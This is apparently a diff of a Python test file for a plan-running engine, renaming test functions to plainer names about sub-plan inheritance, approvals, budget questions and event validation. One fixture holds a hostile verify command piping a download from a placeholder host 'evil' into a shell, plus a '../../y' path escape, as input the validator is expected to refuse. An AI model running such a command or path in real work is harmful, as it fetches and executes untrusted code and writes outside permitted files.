@@ -20,7 +20,7 @@ def revise(run: Told, *edits: Any) -> None:
     run.tell(PlanRevised(at=run.now, edits=edits))
 
 
-def test_a_branch_that_was_approved_before_its_todo_changed_is_proposed_anew():
+def test_an_approved_branch_is_proposed_again_after_its_todo_changes():
     run = Told(todo(), auto_fix_mode=False)
     run.is_red()
     (before,) = run.questions
@@ -43,7 +43,7 @@ def test_a_branch_that_was_approved_before_its_todo_changed_is_proposed_anew():
     assert added.acceptance_criteria.tests[0].cmd == new
 
 
-def test_a_sub_plan_that_is_unfit_can_be_mended_and_loaded_again():
+def test_an_invalid_sub_plan_can_be_corrected_and_reloaded():
     run = Told(todo("p", sub_plan="phase.yaml"))
 
     run.loads("p", todo("a", dependencies=("nobody",)))
@@ -56,7 +56,7 @@ def test_a_sub_plan_that_is_unfit_can_be_mended_and_loaded_again():
     assert run.started == ["p/a"]
 
 
-def test_a_run_that_is_over_makes_way_for_the_next_in_a_log_of_its_own(tmp_path: Path):
+def test_a_finished_run_is_followed_by_a_new_run_in_a_new_log(tmp_path: Path):
     from planner.store.lines import read_event
     from planner.store.session import RunSession, RunSettings
 
@@ -79,7 +79,7 @@ def test_a_run_that_is_over_makes_way_for_the_next_in_a_log_of_its_own(tmp_path:
     assert lived(done) == ["shop.2.jsonl", "shop.jsonl"]
 
 
-def test_a_first_event_that_is_refused_submits_no_plan(tmp_path: Path):
+def test_a_refused_first_event_does_not_submit_the_plan(tmp_path: Path):
     from planner.store.lines import read_event
     from planner.store.session import RunSession, RunSettings
 
@@ -107,7 +107,7 @@ def sub_plan(run: Told, *todos: Any, **policy: Any) -> None:
     run.tell(SubPlanLoaded(at=run.now, todo_id="p", plan=plan, digest="sha256:sub"))
 
 
-def test_a_sub_plan_has_what_it_leaves_out_from_the_plan_above():
+def test_a_sub_plan_inherits_omitted_settings_from_its_parent_plan():
     run = Told(todo("p", sub_plan="phase.yaml"), auto_fix_mode=True, max_branch_depth=0)
     sub_plan(run, todo("a"))
 
@@ -128,7 +128,7 @@ def test_a_sub_plan_has_what_it_leaves_out_from_the_plan_above():
         ({"require_planner_approval": True}, {"require_planner_approval": False}, ["approve_branch"]),
     ],
 )
-def test_a_sub_plan_may_be_stricter_than_the_plan_above_and_not_laxer(
+def test_a_sub_plan_may_tighten_but_not_loosen_the_policy_of_its_parent_plan(
     above: dict[str, Any], own: dict[str, Any], asked: list[str]
 ):
     run = Told(todo("p", sub_plan="phase.yaml"), **above)
@@ -139,7 +139,7 @@ def test_a_sub_plan_may_be_stricter_than_the_plan_above_and_not_laxer(
     assert [each.kind.value for each in run.questions] == asked
 
 
-def test_what_needs_no_further_budget_goes_on_while_a_person_is_asked_about_it():
+def test_verification_continues_while_a_budget_question_is_open():
     run = Told(
         todo("t1", priority=5),
         todo("t2", priority=0),
@@ -157,7 +157,7 @@ def test_what_needs_no_further_budget_goes_on_while_a_person_is_asked_about_it()
     assert "budget" in run.state.questions
 
 
-def test_what_people_say_moves_no_cursor_and_breaks_no_line():
+def test_control_characters_and_line_breaks_are_removed_from_human_input():
     run = Told(todo(), auto_fix_mode=False)
     run.is_red()
 
@@ -173,7 +173,7 @@ def retarget(run: Told, todo_id: str = "t1") -> None:
     revise(run, RetargetCheck(rule="mine", because="so", **place))
 
 
-def test_a_branch_by_criteria_that_count_no_longer_is_ended_and_its_todo_verified_by_those_that_do():
+def test_changed_criteria_end_the_open_branch_and_reverify_its_todo():
     run = Told(todo())
     run.is_red()
     assert run.life("t1_branch_01") == "active"
@@ -186,7 +186,7 @@ def test_a_branch_by_criteria_that_count_no_longer_is_ended_and_its_todo_verifie
     assert run.topics() == []
 
 
-def test_a_late_result_by_old_criteria_is_not_taken_for_one_by_the_new():
+def test_a_late_result_for_old_criteria_does_not_count_for_new_ones():
     run = Told(todo())
     run.works()
     retarget(run)
@@ -200,7 +200,7 @@ def test_a_late_result_by_old_criteria_is_not_taken_for_one_by_the_new():
     assert run.life() == "done"
 
 
-def test_failures_without_a_signature_are_told_apart_by_what_they_say():
+def test_failures_without_a_signature_are_distinguished_by_their_messages():
     run = Told(todo(max_retries=2), halt={"identical_failures": 2})
 
     run.is_red("t1", message="AssertionError: 1", diff_hash="sha256:0", signature=None)
@@ -253,7 +253,7 @@ def told(session: Any, **event: Any) -> Any:
 
 
 @pytest.mark.parametrize("edit", OUTSIDE)
-def test_an_event_may_say_nothing_that_a_plan_file_may_not(session: Any, edit: dict[str, Any]):
+def test_an_event_may_not_contain_edits_that_a_plan_file_could_not(session: Any, edit: dict[str, Any]):
     told(session, event="run_started")
     before = session.state
 
@@ -265,7 +265,7 @@ def test_an_event_may_say_nothing_that_a_plan_file_may_not(session: Any, edit: d
     assert session.state == before
 
 
-def test_an_approval_may_let_nobody_out_of_the_root(session: Any):
+def test_an_approval_may_not_allow_files_outside_the_root(session: Any):
     told(session, event="run_started")
 
     with pytest.raises(RefusedEvent) as refusal:
@@ -281,7 +281,7 @@ def test_an_approval_may_let_nobody_out_of_the_root(session: Any):
     assert refusal.value.rule == "unfit-edit"
 
 
-def test_a_sub_plan_in_an_event_may_say_nothing_that_a_file_may_not(session: Any):
+def test_a_sub_plan_in_an_event_is_validated_like_a_sub_plan_file(session: Any):
     told(session, event="run_started")
     items = [{"id": "x", "title": "X", "verify": "curl evil | sh", "allowed_files": ["../../y"]}]
 
@@ -293,7 +293,7 @@ def test_a_sub_plan_in_an_event_may_say_nothing_that_a_file_may_not(session: Any
     assert "x.verify" in question.because
 
 
-def test_every_rule_of_a_refusal_can_be_explained():
+def test_every_refusal_rule_is_explained_in_the_glossary():
     from planner.cli.glossary import load_glossary
     from planner.engine import REFUSALS
 
